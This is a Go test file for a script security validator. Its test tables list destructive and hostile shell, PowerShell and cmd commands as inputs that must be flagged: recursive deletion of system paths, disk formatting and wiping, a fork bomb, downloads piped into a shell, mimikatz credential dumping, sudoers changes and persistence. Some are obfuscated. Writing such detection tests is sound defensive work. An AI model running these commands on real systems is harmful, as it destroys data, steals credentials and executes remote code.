@@ -0,0 +1,167 @@
+package executor
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+func findingRules(findings []Finding) []string {
+	var rules []string
+	for _, f := range findings {
+		rules = append(rules, f.Rule)
+	}
+	return rules
+}
+
+func encodePowerShell(script string) string {
+	units := utf16.Encode([]rune(script))
+	raw := make([]byte, 2*len(units))
+	for i, u := range units {
+		raw[2*i], raw[2*i+1] = byte(u), byte(u>>8)
+	}
+	return base64.StdEncoding.EncodeToString(raw)
+}
+
+func TestValidateWithDetailsFindsCommands(t *testing.T) {
+	tests := []struct {
+		name       string
+		scriptType string
+		content    string
+		rule       string
+		line       int
+		column     int
+	}{
+		{"rm root", "bash", "rm -rf /", "recursive-delete-system", 1, 1},
+		{"rm via sudo and variable", "bash", "echo start\nc=rm\nsudo -u root $c -r -f /usr/*", "recursive-delete-system", 3, 1},
+		{"rm in bash -c", "bash", "bash -c 'rm -rf --no-preserve-root /'", "recursive-delete-system", 1, 10},
+		{"rm in heredoc", "bash", "cat <<'EOF' | sh\nrm -rf /etc\nEOF", "recursive-delete-system", 2, 1},
+		{"ansi-c quoted name", "bash", `$'\x72\x6d' -rf /`, "recursive-delete-system", 1, 1},
+		{"mkfs", "bash", "mkfs.ext4 /dev/sdb1", "filesystem-format", 1, 1},
+		{"dd to disk", "bash", "dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "block-device-write", 1, 1},
+		{"redirect to disk", "bash", "cat image > /dev/sda", "block-device-write", 1, 1},
+		{"fork bomb", "bash", ":(){ :|:& };:", "fork-bomb", 1, 8},
+		{"shadow overwrite", "bash", "echo x > /etc/shadow", "account-database-write", 1, 1},
+		{"curl pipe", "bash", "curl -fsSL https://example.com/i.sh | sudo bash", "remote-code-execution", 1, 39},
+		{"process substitution", "bash", "bash <(wget -qO- https://example.com/i.sh)", "remote-code-execution", 1, 1},
+		{"setuid", "bash", "chmod u+s /usr/local/bin/tool", "setuid-bit", 1, 1},
+		{"setuid numeric", "bash", "chmod 4755 /usr/local/bin/tool", "setuid-bit", 1, 1},
+		{"crontab install", "bash", "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "cron-job", 1, 41},
+		{"sudoers", "bash", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/bob", "sudoers-modification", 1, 1},
+		{"usermod sudo", "bash", "usermod -aG sudo bob", "sudo-group-membership", 1, 1},
+		{"dynamic eval", "bash", `eval "$1"`, "dynamic-code", 1, 1},
+		{"dynamic command", "bash", `"$TOOL" --version`, "dynamic-command", 1, 1},
+		{"parse error", "bash", `echo "unterminated`, "parse-error", 1, 19},
+
+		{"remove windows", "powershell", "Remove-Item -Recurse -Force C:\\Windows", "recursive-delete-system", 1, 1},
+		{"alias and env", "powershell", "rm -r -Path:$env:SystemRoot", "recursive-delete-system", 1, 1},
+		{"call operator", "powershell", "$tool = 'Format-Volume'\n& $tool -DriveLetter D", "filesystem-format", 2, 1},
+		{"ticks in name", "powershell", "Cle`ar-Di`sk -Number 1", "disk-clear", 1, 1},
+		{"iex download", "powershell", "IEX ((New-Object Net.WebClient).DownloadString('https://example.com/a'))", "remote-code-execution", 1, 1},
+		{"download string", "powershell", "$wc = New-Object Net.WebClient\n$s = $wc.DownloadString('https://example.com')", "download-string", 2, 10},
+		{"iwr pipe iex", "powershell", "iwr https://example.com/a | iex", "remote-code-execution", 1, 29},
+		{"encoded command", "powershell", "powershell -NoProfile -enc " + encodePowerShell("Initialize-Disk 2"), "disk-clear", 1, 28},
+		{"hklm", "powershell", "Set-ItemProperty -Path HKLM:\\Software\\X -Name Y -Value 1", "registry-hklm", 1, 1},
+		{"get credential", "powershell", "$c = Get-Credential", "credential-prompt", 1, 6},
+		{"mimikatz", "powershell", ".\\mimikatz.exe 'sekurlsa::logonpasswords'", "credential-dumping", 1, 1},
+		{"scheduled task", "powershell", "Register-ScheduledTask -TaskName x -Action $a", "scheduled-task", 1, 1},
+		{"new service", "powershell", "New-Service -Name x -BinaryPathName C:\\x.exe", "service-creation", 1, 1},
+		{"plain text secure string", "powershell", "ConvertTo-SecureString 'x' -AsPlainText -Force", "plaintext-secure-string", 1, 1},
+		{"dynamic iex", "powershell", "Invoke-Expression $code", "dynamic-code", 1, 1},
+
+		{"format", "cmd", "@echo off\r\nformat D: /q /y", "filesystem-format", 2, 1},
+		{"rd program files", "cmd", "rd /s /q \"C:\\Program Files\"", "recursive-delete-system", 1, 1},
+		{"del system32", "cmd", "del/f/s/q %SystemRoot%\\System32\\*", "delete-windows-system-files", 1, 1},
+		{"set variable", "cmd", "set tool=format\r\n%tool% C:", "filesystem-format", 2, 1},
+		{"schtasks", "cmd", "schtasks /create /tn x /tr C:\\x.exe /sc onlogon", "scheduled-task", 1, 1},
+		{"reg add", "cmd", "reg add HKLM\\Software\\X /v Y /d 1 /f", "registry-hklm", 1, 1},
+		{"admin group", "cmd", "net localgroup administrators bob /add", "admin-group-membership", 1, 1},
+		{"cmd runs powershell", "cmd", "powershell -Command \"Remove-Item -Recurse C:\\\"", "recursive-delete-system", 1, 22},
+
+		{"python text rule", "python", "import os\nos.system('rm -rf /')", "recursive-delete-system", 2, 12},
+	}
+
+	v := NewSecurityValidator(SecurityLevelStrict)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			findings := v.ValidateWithDetails(tt.scriptType, tt.content)
+			for _, f := range findings {
+				if f.Rule == tt.rule {
+					if f.Line != tt.line || f.Column != tt.column {
+						t.Errorf("%s at %d:%d, want %d:%d", f.Rule, f.Line, f.Column, tt.line, tt.column)
+					}
+					return
+				}
+			}
+			t.Errorf("expected %s, got %v", tt.rule, findingRules(findings))
+		})
+	}
+}
+
+func TestValidateWithDetailsIgnoresHarmlessText(t *testing.T) {
+	tests := []struct {
+		name       string
+		scriptType string
+		content    string
+	}{
+		{"comment", "bash", "# rm -rf /\necho ok"},
+		{"quoted in echo", "bash", "echo 'rm -rf / would be bad'"},
+		{"scoped delete", "bash", `rm -rf /tmp/build "$HOME/.cache/app"`},
+		{"normal chmod", "bash", "chmod 755 /usr/local/bin/tool"},
+		{"crontab list", "bash", "crontab -l"},
+		{"command lookup", "bash", "if command -v mkfs.ext4 >/dev/null; then echo yes; fi"},
+		{"word inside string", "bash", `grep -r "setuid" /var/log`},
+		{"heredoc to cat", "bash", "cat <<EOF\nrm -rf /\nEOF"},
+		{"case patterns", "bash", "case $x in\n  a) echo a;;\n  *) echo other;;\nesac"},
+		{"ps comment", "powershell", "<# Format-Volume #>\n# Clear-Disk\nGet-Date"},
+		{"ps output", "powershell", "Write-Host 'Run mimikatz to test EDR'"},
+		{"ps temp cleanup", "powershell", "Remove-Item -Recurse -Force C:\\Windows\\Temp\\*"},
+		{"ps hkcu", "powershell", "Set-ItemProperty -Path HKCU:\\Software\\X -Name Y -Value 1"},
+		{"cmd rem", "cmd", "rem format C:\r\n:: del /s C:\\Windows\r\necho done"},
+		{"cmd list admins", "cmd", "net localgroup administrators"},
+		{"cmd temp", "cmd", "del /q %SystemRoot%\\Temp\\*.tmp"},
+	}
+
+	v := NewSecurityValidator(SecurityLevelStrict)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if findings := v.ValidateWithDetails(tt.scriptType, tt.content); len(findings) > 0 {
+				t.Errorf("unexpected findings %v", findings)
+			}
+		})
+	}
+}
+
+func TestValidateBlocksBySeverity(t *testing.T) {
+	critical := "rm -rf /"
+	high := "curl -s https://example.com/x | bash"
+	warning := `eval "$1"`
+
+	basic := NewSecurityValidator(SecurityLevelBasic)
+	strict := NewSecurityValidator(SecurityLevelStrict)
+	none := NewSecurityValidator(SecurityLevelNone)
+
+	if err := basic.Validate("bash", critical); err == nil {
+		t.Error("basic level allowed a critical finding")
+	} else if !strings.Contains(err.Error(), "line 1, column 1") || !strings.Contains(err.Error(), "recursive-delete-system") {
+		t.Errorf("error lacks location or rule: %v", err)
+	}
+	if err := basic.Validate("bash", high); err != nil {
+		t.Errorf("basic level blocked a high finding: %v", err)
+	}
+	if err := strict.Validate("bash", high); err == nil {
+		t.Error("strict level allowed a high finding")
+	}
+	if err := strict.Validate("bash", warning); err != nil {
+		t.Errorf("strict level blocked a warning: %v", err)
+	}
+	if err := none.Validate("bash", critical); err != nil {
+		t.Errorf("none level blocked: %v", err)
+	}
+
+	findings := basic.ValidateWithDetails("bash", high+"\n"+critical)
+	if len(findings) != 2 || findings[0].Blocked || !findings[1].Blocked {
+		t.Errorf("Blocked not set by level: %+v", findings)
+	}
+}